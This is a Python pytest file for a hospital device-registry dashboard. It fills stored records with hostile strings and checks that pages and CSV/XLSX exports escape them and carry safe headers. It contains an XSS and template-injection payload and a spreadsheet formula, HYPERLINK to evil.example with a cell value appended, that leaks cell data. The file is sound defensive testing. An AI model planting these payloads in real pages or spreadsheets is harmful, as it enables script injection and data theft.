"""Words that a unit, a broker or a colleague brings are shown as words, whatever they are made of.

What comes over MQTT is held to a vocabulary when it arrives. Here those checks are gone: every text of the
registry says something hostile, and the pages must still be as safe.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa

from sync.dashboard.app import PAGES
from sync.dashboard.incidents import incidents
from sync.registry.database.schema import commands, events, units
from sync.registry.verification import Alarm
from tests.sync.dashboard.conftest import Hospital, token_of
from tests.sync.dashboard.test_pages import _address, prepare_runs

SCRIPT = "\"'><img src=x onerror=alert(1)><script>alert(1)</script></title></textarea>{{7*7}}"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
KEPT = ("st-mary/pharmacy-1", "st-mary/icu-1")


class Read(HTMLParser):
    """What a browser makes of a page: tags with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if any(name.startswith("on") for name in values) or "style" in values:
            self.bad.append(f"{tag} {attrs}")
        if tag in ("script", "img", "iframe") and not str(values.get("src", "")).startswith("/static/"):
            self.bad.append(f"{tag} {attrs}")
        for name in ("href", "action", "src", "formaction"):
            if name in values and not str(values[name]).startswith(("/", "#")):
                self.bad.append(f"{tag} {attrs}")


@pytest.fixture
def poisoned(hospital: Hospital) -> Hospital:
    """Every text column that a unit fills says `SCRIPT`."""
    now_ms = hospital.now_ms()
    prepare_runs(hospital)
    facts = {name: SCRIPT for name in ("software", "models", "policy", "keystore", SCRIPT)}
    health = json.dumps({"state": SCRIPT, "facts": facts, "pending": SCRIPT})
    with hospital.store.transaction() as db:
        db.execute(sa.update(units).values(health=health, health_ms=now_ms, desired=json.dumps(facts)))
        # Other rows than the first of each door, so that the addresses below stay what they are.
        mine = (events.c.unit.in_(KEPT), events.c.sequence > 40)
        words = {"door": SCRIPT, "reason": SCRIPT, "keystore": SCRIPT, "kind": SCRIPT}
        assert db.execute(sa.update(events).where(*mine).values(**words)).rowcount > 3
        db.execute(sa.update(commands).values(status="refused", why=SCRIPT, answered_ms=now_ms))
        alarm = Alarm(SCRIPT, "critical", KEPT[0], SCRIPT, {SCRIPT: SCRIPT}, SCRIPT)
        hospital.store.raise_alarms(db, [alarm], now_ms)
    incidents.gather(hospital.store, now_ms)
    return hospital


def test_no_word_of_a_unit_becomes_a_tag_on_any_page(poisoned: Hospital) -> None:
    shown = 0
    with poisoned.client("admin") as client:
        for method, path, _, _ in PAGES:
            if method != "GET":
                continue
            html = client.get(_address(poisoned, path)).text
            shown += "&lt;script&gt;alert(1)" in html
            assert Read(html).bad == [], path
            assert "<script>alert" not in html, path
            assert "49&lt;" not in html  # nothing is a template either
    assert shown >= 5  # or this test looks at nothing


def test_an_export_is_a_file_that_no_browser_runs(poisoned: Hospital) -> None:
    with poisoned.client("admin") as client:
        form = {"csrf": token_of(client.get("/events").text), "form": "json", "unit": KEPT[0]}
        answer = client.post("/events/export", data=form)
        assert "text/html" not in answer.headers["content-type"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "attachment" in answer.headers["content-disposition"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
def test_no_word_of_a_unit_is_a_formula_in_an_export(hospital: Hospital, start: str) -> None:
    evil = start + FORMULA
    with hospital.store.transaction() as db:
        words = {"door": evil, "reason": evil, "kind": evil}
        db.execute(sa.update(events).where(events.c.unit == KEPT[0]).values(**words))
    with hospital.client("auditor") as client:
        form = {"csrf": token_of(client.get("/events").text), "unit": KEPT[0]}
        text = client.post("/events/export", data=form | {"form": "csv"}).text
        rows = list(csv.reader(io.StringIO(text, newline="")))
        sheet = client.post("/events/export", data=form | {"form": "xlsx"}).content
    assert len(rows) > 3
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{evil}" in cells
    numbers = [cell for cell in cells if cell.lstrip("-").replace(".", "").isdigit()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                and cell not in numbers]  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(sheet)) as book:
        names = book.namelist()
        assert not any("externalLink" in name or "vba" in name.lower() for name in names)
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
        assert b"<hyperlink" not in book.read("xl/worksheets/sheet1.xml")
